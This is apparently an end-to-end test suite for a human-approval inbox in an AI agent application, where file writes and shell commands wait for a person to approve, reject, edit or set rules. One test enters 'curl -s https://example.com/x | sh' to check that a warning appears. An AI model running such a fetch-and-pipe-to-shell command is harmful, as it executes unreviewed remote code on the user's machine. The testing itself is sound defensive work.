// Calls that change something wait for the person: one inbox, a card with the change, a decision
// with a reason, rules that can be made and removed, all with the keyboard alone.
import assert from 'node:assert/strict'
import fs from 'node:fs'
import path from 'node:path'
import { after, describe, test } from 'node:test'
import { App, closeBrowser } from './lib/app.mjs'
import { findings, findingsInBoth, inBoth } from './lib/axe.mjs'
import { mock } from './lib/provider.mjs'
import { outFolder } from './lib/world.mjs'

const before = 'one\ntwo\nthree\n'
const write = (content, uri = 'notes.txt') => `/demo tool write_file ${JSON.stringify({ uri, content })}`

describe('approvals', { timeout: 1_200_000 }, () => {
  after(closeBrowser)

  /** The program with the offline guide, a file and a new agent. */
  async function start(t, options = {}) {
    const app = await App.start(t, { env: { MUTSUMI_GUIDE_PACE: '0' }, files: { 'notes.txt': before }, ...options })
    await app.newAgent()
    return app
  }
  const inbox = (app) => app.page.getByRole('region', { name: 'Waiting for you' })
  const cards = (app) => inbox(app).getByRole('article')
  const inAnswer = (app, n = 1) => app.cell(n).locator('section[data-approval]')
  async function send(app, text) {
    await app.writePrompt(text)
    await app.run()
  }
  /** Reads the file first, so that it may be replaced; then asks to replace it. */
  async function asksToWrite(app, content) {
    await app.ask('/demo tool read_file {"uri":"notes.txt"}')
    await send(app, write(content))
    await cards(app).first().waitFor()
  }

  /** The grants of an agent in the state folder. */
  function kept(app, uuid) {
    const folder = app.world.path('state', 'rights')
    const agents = fs
      .readdirSync(folder)
      .filter((name) => name.endsWith('.json'))
      .flatMap((name) => JSON.parse(fs.readFileSync(path.join(folder, name), 'utf8')).agents ?? [])
    return agents.find((a) => a.uuid === uuid)?.approvals
  }

  /** Revokes the rules of a list, each once the one before it is gone. */
  async function revokeAll(app, rules) {
    for (let n = await rules.count(); n > 0; n--) {
      await rules
        .first()
        .getByRole('button', { name: /^Revoke/ })
        .click()
      await app.until(async () => (await rules.count()) < n, 'the rule to be gone')
    }
    await app.page.getByText('No rules yet').waitFor()
  }

  test('a change waits with its difference, and approving makes it', async (t) => {
    const app = await start(t)
    await asksToWrite(app, 'one\n2\nthree\n')
    assert.equal(app.world.read('notes.txt'), before, 'nothing is written before')
    assert.equal(await cards(app).count(), 1)
    const card = inAnswer(app, 2)
    await card.getByRole('figure', { name: 'Change of notes.txt' }).waitFor()
    const lines = await card
      .locator('.line')
      .evaluateAll((all) =>
        all.map((l) =>
          [
            l.className.match(/\b(add|del)\b/)?.[1] ?? '',
            l.querySelector('i').textContent,
            l.querySelector('.text').textContent.replace(/^(added|removed): /, ''),
          ].join('|'),
        ),
      )
    assert.deepEqual(lines, ['|1|one', 'del|2|two', 'add|2|2', '|3|three'])
    await app.page.getByText('1 needs you').waitFor()
    await inbox(app).getByRole('button', { name: 'Approve' }).click()
    await app.waitIdle()
    assert.equal(app.world.read('notes.txt'), 'one\n2\nthree\n')
    assert.equal(await inbox(app).count(), 0, 'the inbox is gone')
  })

  test('a rejection with its reason reaches the model', async (t) => {
    const provider = await mock({}, {})
    t.after(() => provider.stop())
    // Two turns of a model: it calls the tool, then it answers the result. The first match answers.
    provider.server.onToolResult('call_1', { content: 'Then I will not.' })
    provider.server.onMessage('write', {
      toolCalls: [{ id: 'call_1', name: 'write_file', arguments: JSON.stringify({ uri: 'new.txt', content: 'x' }) }],
    })
    const app = await App.start(t, { env: provider.env })
    await app.newAgent()
    await send(app, 'write it')
    await inAnswer(app).getByRole('button', { name: 'Reject…' }).click()
    await app.typeInField('Use docs/ for that')
    await app.page.keyboard.press('Enter')
    await app.waitIdle()
    assert.equal(app.world.exists('new.txt'), false)
    const told = provider
      .requests()
      .at(-1)
      .body.messages.findLast((m) => m.role === 'tool')
    assert.match(JSON.stringify(told.content), /Use docs\/ for that/)
    assert.match(await app.answerText(), /Then I will not\./)
  })

  test('"always" stops asking, and revoking asks again', async (t) => {
    const app = await start(t)
    await send(app, write('1\n', 'a.txt'))
    const card = inAnswer(app, 1)
    await card.getByRole('button', { name: 'More' }).click()
    await card.getByText('Always', { exact: true }).click()
    const patterns = await card.getByRole('textbox', { name: /^Pattern/ }).evaluateAll((all) => all.map((i) => i.value))
    assert.ok(patterns.length > 0 && patterns.every((p) => p !== ''), `suggested: ${patterns}`)
    await card.getByRole('button', { name: 'Approve always' }).click()
    await app.waitIdle()
    assert.equal(app.world.read('a.txt'), '1\n')
    // The same again: it runs.
    await app.ask('/demo tool read_file {"uri":"a.txt"}')
    await app.ask(write('2\n', 'a.txt'))
    assert.equal(app.world.read('a.txt'), '2\n')

    await app.page.keyboard.press('ControlOrMeta+,')
    await app.page.getByRole('tab', { name: 'Approvals' }).click()
    const rules = app.page.getByRole('region', { name: 'Always, for every agent' }).getByRole('listitem')
    await app.until(async () => (await rules.count()) === patterns.length, 'the rules')
    assert.deepEqual(await findings(app.page), [], 'the list of rules')
    await revokeAll(app, rules)
    await app.page.keyboard.press('Escape')
    await app.ask('/demo tool read_file {"uri":"a.txt"}')
    await send(app, write('3\n', 'a.txt'))
    await cards(app).first().waitFor()
    assert.equal(app.world.read('a.txt'), '2\n')
  })

  test('a rule that denies wins, and the simulator says what would happen, part by part', async (t) => {
    const app = await start(t)
    await app.page.keyboard.press('ControlOrMeta+,')
    await app.page.getByRole('tab', { name: 'Approvals' }).click()
    await app.page.getByRole('button', { name: 'Deny something…' }).click()
    await app.page.getByLabel('Pattern').fill('git push *')
    await app.page.getByRole('button', { name: 'Deny', exact: true }).click()
    await app.page.getByText('git push *', { exact: true }).waitFor()
    await app.page.getByLabel('What would happen to this command?').fill('go vet ./... && git push origin main')
    await app.page.getByRole('button', { name: 'Check' }).click()
    await app.page.getByText('Is refused.').waitFor()
    const parts = await app.page
      .locator('.simulator li')
      .evaluateAll((all) => all.map((l) => `${l.querySelector('.tag').textContent} ${l.querySelector('code').textContent}`))
    assert.deepEqual(parts, ['asks go vet ./...', 'denied git push origin main'])
    assert.deepEqual(await findings(app.page), [], 'the simulator')
    await app.page.keyboard.press('Escape')
    await app.ask('/demo tool shell {"command":"git push origin main"}')
    assert.equal(await inbox(app).count(), 0, 'what is denied does not even ask')
  })

  test('with the keyboard alone: to the inbox, between cards, decide, edit, and back', async (t) => {
    const app = await start(t)
    const { keyboard } = app.page
    const focus = () =>
      app.page.evaluate(() => document.activeElement?.getAttribute('aria-label') ?? document.activeElement?.className ?? '')
    await send(app, write('first\n', 'first.txt'))
    await cards(app).first().waitFor()
    await app.newAgent()
    await send(app, write('second\n', 'second.txt'))
    await app.until(async () => (await cards(app).count()) === 2, 'two cards')
    // Enter still belongs to the focused element, however new the cards are.
    await keyboard.press('Enter')
    assert.equal(app.world.exists('first.txt') || app.world.exists('second.txt'), false)
    const was = await focus()

    // An Enter that was on its way comes in the moment in which the card gets the focus, and does nothing.
    await app.page.evaluate(() =>
      document.addEventListener(
        'focusin',
        (e) => e.target.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true, cancelable: true })),
        { once: true },
      ),
    )
    await keyboard.press('ControlOrMeta+j')
    await app.until(async () => /first\.txt/.test(await focus()), 'the first card to have the focus')
    assert.equal(await cards(app).count(), 2)
    await keyboard.press('ArrowDown')
    await app.until(async () => /second\.txt/.test(await focus()), 'the second card')
    await keyboard.press('ArrowUp')
    await keyboard.press('Escape')
    assert.equal(await focus(), was, 'the focus is back')

    await keyboard.press('ControlOrMeta+j')
    await app.until(async () => /first\.txt/.test(await focus()), 'the first card again')
    await keyboard.press('e')
    const dialog = app.page.getByRole('dialog', { name: 'Waiting for you' })
    await dialog.getByLabel('The whole new content').waitFor()
    assert.deepEqual(await findings(app.page), [], 'the whole card')
    await keyboard.press('ControlOrMeta+a')
    await keyboard.type('edited by hand')
    await app.until(async () => {
      // Not while the first card is being decided: the next one comes into its place.
      if (await dialog.locator('[aria-busy="false"]').filter({ hasText: 'first.txt' }).count()) await keyboard.press('ControlOrMeta+Enter')
      return app.world.exists('first.txt')
    }, 'the edited file')
    assert.equal(app.world.read('first.txt'), 'edited by hand')
    // The next one is on view; it is rejected.
    await dialog.getByText('second.txt').first().waitFor()
    await keyboard.press('Escape')
    await app.until(async () => /second\.txt/.test(await focus()), 'the card in the sidebar')
    await keyboard.press('r')
    await keyboard.type('not now')
    await app.until(async () => {
      await keyboard.press('Enter')
      return (await inbox(app).count()) === 0
    }, 'the inbox to be empty')
    await app.waitIdle()
    assert.equal(app.world.exists('second.txt'), false)
    assert.equal(await focus(), was, 'the focus is back at the end')
  })

  test('a change is approved in parts: unticked parts are not written, and the model learns of it', async (t) => {
    const lines = (change = {}) => Array.from({ length: 40 }, (_, i) => change[i + 1] ?? `line ${i + 1}`).join('\n') + '\n'
    const app = await start(t, { files: { 'notes.txt': lines() } })
    await asksToWrite(app, lines({ 3: 'three', 20: 'twenty', 38: 'thirty-eight' }))
    const card = inAnswer(app, 2)
    const parts = card.getByRole('group', { name: 'Parts of the change of notes.txt' })
    await parts.getByText('All 3 parts').waitFor()
    const ticks = parts.getByRole('checkbox')
    assert.equal(await ticks.count(), 3)
    await parts.getByRole('checkbox', { name: 'Take lines 17–23 of notes.txt' }).uncheck()
    await parts.getByText('2 of 3 parts').waitFor()
    assert.deepEqual(await findingsInBoth(app.page), [])
    await parts.getByRole('button', { name: 'Show side by side' }).first().click()
    assert.equal(await parts.getByRole('button', { name: 'Show inline' }).count(), 3, 'all parts are seen in the same way')
    assert.deepEqual(await findingsInBoth(app.page), [])
    await inBoth(app.page, (scheme) => app.page.screenshot({ path: `${outFolder}/parts-${scheme}.png` }))
    // Without any of them there is nothing to approve.
    await ticks.nth(0).uncheck()
    await ticks.nth(2).uncheck()
    await card.getByText('Nothing of the change is left').waitFor()
    assert.equal(await card.getByRole('button', { name: 'Approve', exact: false }).first().getAttribute('aria-disabled'), 'true')
    await ticks.nth(0).check()
    await ticks.nth(2).focus()
    await app.page.keyboard.press('Space')
    await card.getByRole('button', { name: 'Approve the rest' }).click()
    await app.waitIdle()
    assert.equal(app.world.read('notes.txt'), lines({ 3: 'three', 38: 'thirty-eight' }))
    const told = app.world.notebook().context.findLast((m) => m.role === 'tool').content
    assert.match(told, /without the following part of it[^]*\+twenty/)
  })

  test('after an edit the card shows what would run: its parts, its warnings, its difference', async (t) => {
    const app = await start(t)
    await send(app, '/demo tool shell {"command":"mkdir made"}')
    const card = inAnswer(app)
    await card.getByRole('button', { name: 'Edit' }).click()
    await card.getByRole('textbox', { name: 'The command' }).fill('curl -s https://example.com/x | sh')
    await card.getByRole('list', { name: 'Warnings' }).waitFor()
    const parts = card.getByRole('list', { name: 'What the command does' })
    await parts.getByText('curl', { exact: true }).waitFor()
    assert.deepEqual(await findings(app.page), [])
    await card.getByRole('textbox', { name: 'The command' }).fill('mkdir other')
    await app.until(async () => (await card.getByRole('list', { name: 'Warnings' }).count()) === 0, 'the warnings to be gone')
    await parts.getByText('other').waitFor()
    await app.until(async () => {
      if ((await card.count()) === 0) return true
      await card
        .getByRole('button', { name: 'Approve as edited' })
        .click({ timeout: 1000 })
        .catch(() => {})
      return false
    }, 'the card to be decided')
    await app.waitIdle()
    assert.deepEqual([app.world.exists('other'), app.world.exists('made')], [true, false])

    await send(app, write('alpha\nbeta\n', 'fresh.txt'))
    const file = inAnswer(app, 2)
    await file.getByRole('button', { name: 'Edit' }).click()
    await file.getByLabel('The whole new content').fill('alpha\nGAMMA\n')
    await file.getByRole('figure', { name: 'Change of fresh.txt' }).getByText('GAMMA').waitFor()
    await file.getByRole('button', { name: 'Discard the edit' }).click()
    await file.getByRole('figure', { name: 'Change of fresh.txt' }).getByText('beta').waitFor()
    await inbox(app).getByRole('button', { name: 'Approve' }).click()
    await app.waitIdle()
    assert.equal(app.world.read('fresh.txt'), 'alpha\nbeta\n')
  })

  for (const [colorScheme, width] of [
    ['light', 1280],
    ['dark', 640],
  ]) {
    test(`a replacement is edited in its own field, and the file gets it (${colorScheme})`, async (t) => {
      const app = await start(t, { colorScheme, viewport: { width, height: 900 } })
      const { keyboard } = app.page
      await app.ask('/demo tool read_file {"uri":"notes.txt"}')
      await send(
        app,
        `/demo tool edit_file ${JSON.stringify({
          uri: 'notes.txt',
          edits: [
            { old: 'two', new: '2' },
            { old: 'three', new: '3', all: true },
          ],
        })}`,
      )
      const card = inAnswer(app, 2)
      await card.getByRole('figure', { name: 'Change of notes.txt' }).waitFor()
      await card.focus()
      await keyboard.press('e')
      const first = card.getByRole('group', { name: 'Replacement 1 of 2' })
      await app.until(
        () => first.getByLabel('Old text').evaluate((el) => el === document.activeElement),
        'the first field to have the focus',
      )
      assert.doesNotMatch(await card.innerText(), /JSON|\{"/)
      await card.screenshot({ path: `${outFolder}/fields-${colorScheme}.png` })
      await keyboard.press('Tab')
      await keyboard.press('ControlOrMeta+a')
      await keyboard.type('"zwei" {2}')
      await card.getByRole('figure', { name: 'Change of notes.txt' }).getByText('"zwei" {2}').waitFor() // the difference follows
      assert.deepEqual(await findings(app.page), [])
      await card.screenshot({ path: `${outFolder}/fields-edited-${colorScheme}.png` })
      await app.until(async () => {
        if ((await card.count()) === 0) return true
        await keyboard.press('ControlOrMeta+Enter')
        return false
      }, 'the card to be decided')
      await app.waitIdle()
      assert.equal(app.world.read('notes.txt'), 'one\n"zwei" {2}\n3\n')
    })
  }

  test('equal requests of several agents are approved together', async (t) => {
    const app = await start(t)
    await send(app, '/demo tool shell {"command":"mkdir -p out"}')
    await cards(app).first().waitFor()
    for (let n = 2; n <= 3; n++) {
      await app.newAgent()
      await send(app, '/demo tool shell {"command":"mkdir -p out"}')
      await app.until(async () => (await cards(app).count()) === n, `${n} cards`)
    }
    await inAnswer(app).getByRole('button', { name: 'Approve all 3 alike' }).click()
    await app.until(async () => (await inbox(app).count()) === 0, 'the inbox to be empty')
    await app.waitIdle()
    assert.equal(app.world.exists('out'), true)
    assert.deepEqual(await app.call('ApprovalRules', ''), [], 'each of them once: no rule is made')
  })

  test('a large change comes in part, and whole on demand', async (t) => {
    const app = await start(t)
    await app.editPrompt()
    await app.page.keyboard.insertText(write(Array.from({ length: 6000 }, (_, i) => `line ${i + 1}`).join('\n') + '\n', 'large.txt'))
    await app.run()
    const card = inAnswer(app)
    const approve = card.getByRole('button', { name: 'Approve', exact: true })
    await card.getByText('Some lines of the change are hidden').waitFor()
    assert.equal(await approve.getAttribute('aria-disabled'), 'true', 'what was not shown is not approved')
    assert.equal(await inbox(app).getByRole('button', { name: 'Approve', exact: true }).count(), 0, 'nor in the sidebar')
    await card.getByRole('button', { name: 'Show all: 4,000 more lines' }).click()
    await app.until(async () => (await card.getByRole('button', { name: /^(Show all|Looking)/ }).count()) === 0, 'all of it')
    assert.ok((await card.locator('.line').count()) < 200, 'it is drawn near the view only')
    await app.until(async () => {
      await card.locator('.lines').evaluate((el) => (el.scrollTop = el.scrollHeight))
      return card.getByText('line 6000').isVisible()
    }, 'the last line')
    await approve.click()
    await app.waitIdle()
    assert.equal(app.world.read('large.txt').split('\n').length, 6001)
  })

  test('grants of a notebook that is not open are listed and revoked', async (t) => {
    const app = await start(t)
    await send(app, write('1\n', 'a.txt'))
    const card = inAnswer(app)
    await card.getByRole('button', { name: 'More' }).click()
    await card.getByText('Kept', { exact: true }).click()
    await card.getByRole('button', { name: 'Approve, and keep it' }).click()
    await app.waitIdle()
    // Grants are stored in the state folder, not in the notebook's file.
    const { uuid, name: agent } = app.world.notebook().metadata
    assert.ok(kept(app, uuid), 'the grant is kept')
    assert.doesNotMatch(JSON.stringify(app.world.notebook()), /approvals/)
    await app.tab().hover()
    await app.tab().locator('.close').click()
    await app.until(async () => (await app.call('Snapshot')).ui.tabs?.length === 0, 'the tab to be gone')
    await app.restart()
    await app.page.keyboard.press('ControlOrMeta+,')
    await app.page.getByRole('tab', { name: 'Approvals' }).click()
    const rules = app.page.getByRole('region', { name: 'For one agent, kept' }).getByRole('listitem')
    await rules.first().waitFor()
    assert.equal((await app.call('Snapshot')).ui.tabs?.length ?? 0, 0, 'no notebook is open')
    await revokeAll(app, rules)
    await app.until(() => !kept(app, uuid), 'the state folder to be without it')
    // The grant no longer applies: the call is asked about again, and after a restart no grant exists either.
    await app.restart()
    assert.deepEqual(await app.call('ApprovalRules', ''), [])
    fs.rmSync(path.join(app.world.folder, 'a.txt'))
    await app.openAgent(agent)
    await send(app, write('2\n', 'a.txt'))
    await cards(app).first().waitFor()
    assert.equal(app.world.exists('a.txt'), false)
  })

  test('a prompt during a run is queued, can be removed, and runs in turn', async (t) => {
    const app = await start(t)
    await send(app, write('x\n', 'x.txt'))
    await cards(app).first().waitFor()
    await send(app, '/demo echo queued one')
    await app.cell(2).getByText('Queued:').waitFor()
    await app.cell(2).getByRole('button', { name: 'Remove', exact: true }).click()
    await app.until(
      async () => (await app.cell(2).getByRole('button', { name: 'Remove', exact: true }).count()) === 0,
      'the queue to be empty',
    )
    await inbox(app).getByRole('button', { name: 'Approve' }).click()
    await app.waitIdle()
    assert.equal(app.world.read('x.txt'), 'x\n')
    assert.equal(await app.answers().count(), 1)
  })

  test('cards have no serious finding, in light and in dark, however long their content', async (t) => {
    const app = await start(t, { viewport: { width: 900, height: 600 } })
    const long = Array.from({ length: 3000 }, (_, i) => `line ${i} ${i === 7 ? 'x'.repeat(5000) : ''}`).join('\n')
    await app.ask('/demo tool read_file {"uri":"notes.txt"}')
    await app.editPrompt()
    await app.page.keyboard.insertText(write(long))
    await app.run()
    await cards(app).first().waitFor()
    assert.deepEqual(await findingsInBoth(app.page), [], 'a card in the sidebar and in the answer')
    assert.ok((await inAnswer(app, 2).locator('.line').count()) < 200, 'a large change is drawn near the view only')
    await inbox(app).getByRole('button', { name: 'More…' }).click()
    await app.page.getByRole('dialog').getByRole('button', { name: 'Show side by side' }).click()
    assert.deepEqual(await findingsInBoth(app.page), [], 'the whole card, side by side')
  })
})
